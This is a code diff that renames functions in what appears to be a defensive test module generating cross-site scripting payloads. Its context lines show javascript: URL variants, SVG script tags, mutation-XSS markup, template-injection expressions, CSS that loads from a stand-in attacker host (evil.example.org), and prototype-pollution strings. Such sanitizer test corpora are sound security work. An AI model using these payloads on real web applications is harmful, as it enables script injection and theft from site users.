@@ -1,5 +1,5 @@
 /** URLs that no page may link to; bare and as the target of a link. */
-export const urls = (call: string): string[] => {
+export const buildUrlPayloads = (call: string): string[] => {
   const addresses = [
     `javascript:${call}`,
     `JaVaScRiPt:${call}`,
@@ -25,7 +25,7 @@ export const urls = (call: string): string[] => {
 };
 
 /** SVG with scripts. */
-export const svgs = (call: string): string[] => [
+export const buildSvgPayloads = (call: string): string[] => [
   `<svg><script>${call}</script></svg>`,
   `<svg><script href=data:,${call} />`,
   `<svg><script>${call.replace("(", "&#40;")}</script>`,
@@ -43,7 +43,7 @@ export const svgs = (call: string): string[] => [
 ];
 
 /** Mutation XSS: markup that parses differently the second time (MathML, foreign content, templates). */
-export const trees = (call: string): string[] => [
+export const buildMutationPayloads = (call: string): string[] => [
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
   `<math href=javascript:${call}>x</math>`,
   `<math><maction actiontype=statusline xlink:href=javascript:${call}>x`,
@@ -69,7 +69,7 @@ export const trees = (call: string): string[] => [
 ];
 
 /** Expressions that template engines and frameworks would evaluate. */
-export const templates = (call: string): string[] => [
+export const buildTemplatePayloads = (call: string): string[] => [
   `{{${call}}}`,
   `{{constructor.constructor('${call}')()}}`,
   `{{$on.constructor('${call}')()}}`,
@@ -92,7 +92,7 @@ export const templates = (call: string): string[] => [
 ];
 
 /** Styles that would send requests, cover the page or run code. */
-export const styles = (call: string): string[] => [
+export const buildStylePayloads = (call: string): string[] => [
   "<style>@import '//evil.example.org/x.css'</style>",
   "<style>*{background:url(//evil.example.org/p)}</style>",
   `<div style="background:url(javascript:${call})">`,
@@ -107,7 +107,7 @@ export const styles = (call: string): string[] => [
 ];
 
 /** Names that pollute prototypes or clobber DOM properties, and spreadsheet and calendar injections. */
-export const words = (call: string): string[] => [
+export const buildReservedNamePayloads = (call: string): string[] => [
   ...["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__defineGetter__"],
   '{"__proto__":{"polluted":1}}',
   "__proto__[polluted]=1",
